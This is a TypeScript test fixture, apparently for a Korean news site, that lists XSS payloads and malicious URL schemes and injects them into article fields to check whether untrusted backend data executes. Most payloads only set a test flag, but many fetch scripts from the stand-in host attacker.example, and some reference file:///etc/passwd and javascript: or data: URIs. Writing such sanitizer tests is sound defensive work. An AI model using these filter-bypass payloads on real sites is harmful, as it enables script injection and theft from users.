/** What a hostile or a hijacked backend may send. Each string runs `window.__attacked = 1` where it is believed. */

const RUN = 'window.__attacked=1';

/** A host that no page of the tests ever names: whatever is asked of it was smuggled. */
export const STRANGER = 'attacker.example';

/** Markup, for fields of text and for bodies. */
export const MARKUP: string[] = [
  // elements that run or fetch by themselves
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=//${STRANGER}/x.js></SCRIPT>`,
  `<script type=module>import '//${STRANGER}/x.mjs'</script>`,
  `<script/x>${RUN}</script/x>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `--><script>${RUN}</script><!--`,
  `]]><script>${RUN}</script>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href=//${STRANGER}/x.js /></svg>`,
  `<svg><use href="//${STRANGER}/x.svg#x"/></svg>`,
  `<svg><image href="//${STRANGER}/x.svg" onload=${RUN}></image></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>click</text></a></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><foreignObject><iframe src="javascript:parent.__attacked=1"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<math href="javascript:${RUN}">click</math>`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<iframe src="javascript:parent.__attacked=1"></iframe>`,
  `<iframe srcdoc="<script>parent.__attacked=1</script>"></iframe>`,
  `<iframe src="data:text/html,<script>parent.__attacked=1</script>"></iframe>`,
  `<iframe src=//${STRANGER}/frame onload=${RUN}></iframe>`,
  `<frameset onload=${RUN}><frame src=//${STRANGER}/frame></frameset>`,
  `<object data="javascript:${RUN}"></object>`,
  `<object data=//${STRANGER}/x.swf><param name=movie value=//${STRANGER}/x.swf></object>`,
  `<embed src="javascript:${RUN}">`,
  `<embed src=//${STRANGER}/x.svg type=image/svg+xml>`,
  `<applet code=X codebase=//${STRANGER}/></applet>`,
  `<portal src=//${STRANGER}/ onload=${RUN}></portal>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<meta http-equiv=refresh content="0;url=//${STRANGER}/">`,
  `<base href="//${STRANGER}/"><img src=x>`,
  `<link rel=stylesheet href=//${STRANGER}/x.css>`,
  `<link rel=preload as=script href=//${STRANGER}/x.js onload=${RUN}>`,
  `<link rel=import href=//${STRANGER}/x.html>`,
  `<style>@import '//${STRANGER}/x.css';</style>`,
  `<style>body{background:url(//${STRANGER}/x.png)}</style>`,
  `<template shadowrootmode=open><img src=x onerror=${RUN}></template>`,
  `<slot onslotchange=${RUN}>x</slot>`,
  // event handlers
  `<img src=x onerror=${RUN}>`,
  `<IMG SRC=x OnErRoR=${RUN}>`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src=x onerror\u000c=${RUN}>`,
  `<img src=x onerror=&#119;indow.__attacked=1>`,
  `"><img src=x onerror=${RUN}>`,
  `'><img src=x onerror=${RUN}>`,
  `\` onerror=${RUN} x=\``,
  `" autofocus onfocus=${RUN} x="`,
  `' onmouseover='${RUN}`,
  `<img src=x:x onerror=${RUN} `,
  `<<img src=x onerror=${RUN}//<`,
  `<image src=x onerror=${RUN}>`,
  `<picture><source srcset=//${STRANGER}/x.png><img src=x onerror=${RUN}></picture>`,
  `<img src=x srcset="//${STRANGER}/x.png 2x" style="background:url(//${STRANGER}/y.png)">`,
  `<body onload=${RUN} onpageshow=${RUN} background=//${STRANGER}/x.png>`,
  `<video src=//${STRANGER}/x.mp4 poster="javascript:${RUN}" autoplay onerror=${RUN}></video>`,
  `<video><source src=x onerror=${RUN}><track src=//${STRANGER}/x.vtt></video>`,
  `<audio src=//${STRANGER}/x.mp3 autoplay onerror=${RUN}></audio>`,
  `<input autofocus onfocus=${RUN}>`,
  `<input type=image src=//${STRANGER}/x.png formaction="javascript:${RUN}">`,
  `<select autofocus onfocus=${RUN}><option>x</option></select>`,
  `<textarea autofocus onfocus=${RUN}></textarea>`,
  `<button popovertarget=x autofocus onfocus=${RUN}>x</button><div popover id=x onbeforetoggle=${RUN}>x</div>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<dialog open onclose=${RUN}><form method=dialog><button autofocus>x</button></form></dialog>`,
  `<p contenteditable autofocus onfocus=${RUN}>x</p>`,
  `<p style="animation:x" onanimationstart=${RUN}>x</p><style>@keyframes x{}</style>`,
  `<p style="background:url('javascript:${RUN}');behavior:url(//${STRANGER}/x.htc);width:expression(${RUN})">x</p>`,
  `<table background="//${STRANGER}/x.png"><tr><td background="javascript:${RUN}">x</td></tr></table>`,
  `<bdo dir=rtl onclick=${RUN} accesskey=x>x</bdo>`,
  // forms and links that wait for a click
  `<form action="javascript:${RUN}"><input type=submit></form>`,
  `<form id=app action=//${STRANGER}/><input name=attributes><input name=children></form>`,
  `<a href="javascript:${RUN}">click</a>`,
  `<a href="//example.org/" ping="//${STRANGER}/ping" target=_blank>click</a>`,
  `<a href=x id=content name=app class=skeleton>click</a>`,
  `<map name=x><area shape=rect coords=0,0,999,999 href="javascript:${RUN}"></map><img src=x usemap=#x>`,
  // what templates, entities and encodings may turn into markup
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;`,
  `\\u003cimg src=x onerror=${RUN}\\u003e`,
  `%3Cimg%20src=x%20onerror=${RUN}%3E`,
  `\u00bcscript\u00be${RUN}\u00bc/script\u00be`,
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
  `<\u0000script>${RUN}</\u0000script>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `<!--<img src="--><img src=x onerror=${RUN}//">`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<?xml-stylesheet href="javascript:${RUN}"?>`,
  `<plaintext><img src=x onerror=${RUN}>`,
  `<xmp><img src=x onerror=${RUN}></xmp>`,
  `<div>`.repeat(600) + `<img src=x onerror=${RUN}>`,
];

/** Addresses that run something or show what is not the newspaper's, for fields that become links or sources. */
export const ADDRESSES: string[] = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `\u00a0javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `java\r\nscript:${RUN}`,
  `javascript\t:${RUN}`,
  `javascript&colon;${RUN}`,
  `javascript&#58;${RUN}`,
  `&#106;avascript:${RUN}`,
  `javascript://example.org/%0a${RUN}`,
  `javascript://%0d%0a${RUN}`,
  `view-source:javascript:${RUN}`,
  `feed:javascript:${RUN}`,
  `jar:javascript:${RUN}!/`,
  `vbscript:msgbox(1)`,
  `livescript:${RUN}`,
  `data:text/html,<script>opener.__attacked=1</script>`,
  `data:text/html;base64,PHNjcmlwdD5vcGVuZXIuX19hdHRhY2tlZD0xPC9zY3JpcHQ+`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`,
  `blob:null/6e8bc430-9c3a-11d9-9669-0800200c9a66`,
  `filesystem:http://127.0.0.1/temporary/x.html`,
  `file:///etc/passwd`,
  `about:blank`,
  `chrome://settings`,
  `intent://scan/#Intent;scheme=zxing;end`,
  `ws://${STRANGER}/`,
  `ftp://${STRANGER}/`,
  `mhtml:http://${STRANGER}/!x`,
  `"><img src=x onerror=${RUN}>`,
  `x" onerror="${RUN}`,
];

// ------------------------------------------------------------------------------------------------- fields of articles --

/** With the attack in every field of text, and harmless addresses, so that each of them is shown. */
export function markupFields(attack: string, number: number): Record<string, unknown> {
  return {
    headline: attack,
    alternativeHeadline: [attack, attack],
    description: attack,
    articleBody: `<p>앞 문단</p>${attack}`,
    datePublished: number % 2 ? attack : '2026-03-02T10:00:00+09:00',
    dateModified: attack,
    author: [{ name: attack, jobTitle: attack, url: 'https://example.org/reporter' }],
    articleSection: [{ name: attack, slug: 'sahoe' }],
    keywords: [attack],
    image: { url: `images/${number}.svg`, width: 600, height: 400, alternateName: attack, caption: attack, creditText: attack },
    associatedMedia: [{ url: `images/m${number}.svg`, width: 600, height: 400, alternateName: attack, caption: attack, creditText: attack }],
    interactionStatistic: { views: 1, likes: 2 },
  };
}

/** With the attack wherever an address belongs, and in the attributes of a body that hold one. */
export function addressFields(attack: string, number: number): Record<string, unknown> {
  const quoted = attack.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
  const image = { url: attack, width: 600, height: 400, alternateName: '그림', sizes: [{ url: attack, width: 300, height: 200 }, { url: attack, width: 600, height: 400 }] };
  return {
    url: attack,
    author: [{ name: '가나다', url: attack, image: attack }],
    articleSection: [{ name: '사회', slug: 'sahoe' }, { name: '다른', slug: attack }],
    image,
    associatedMedia: [image, { url: `images/${number}.svg`, width: 600, height: 400, sizes: image.sizes }],
    articleBody:
      `<p>앞 문단</p><p><a href="${quoted}">링크</a> <a href=${attack}>링크</a> <q cite="${quoted}">인용</q></p>` +
      `<img src="${quoted}" srcset="${quoted} 2x" longdesc="${quoted}" alt="그림"><iframe src="${quoted}"></iframe>` +
      `<video src="${quoted}" poster="${quoted}"></video><object data="${quoted}"></object><embed src="${quoted}">` +
      `<form action="${quoted}"><button formaction="${quoted}">단추</button></form><blockquote cite="${quoted}">인용</blockquote>`,
  };
}
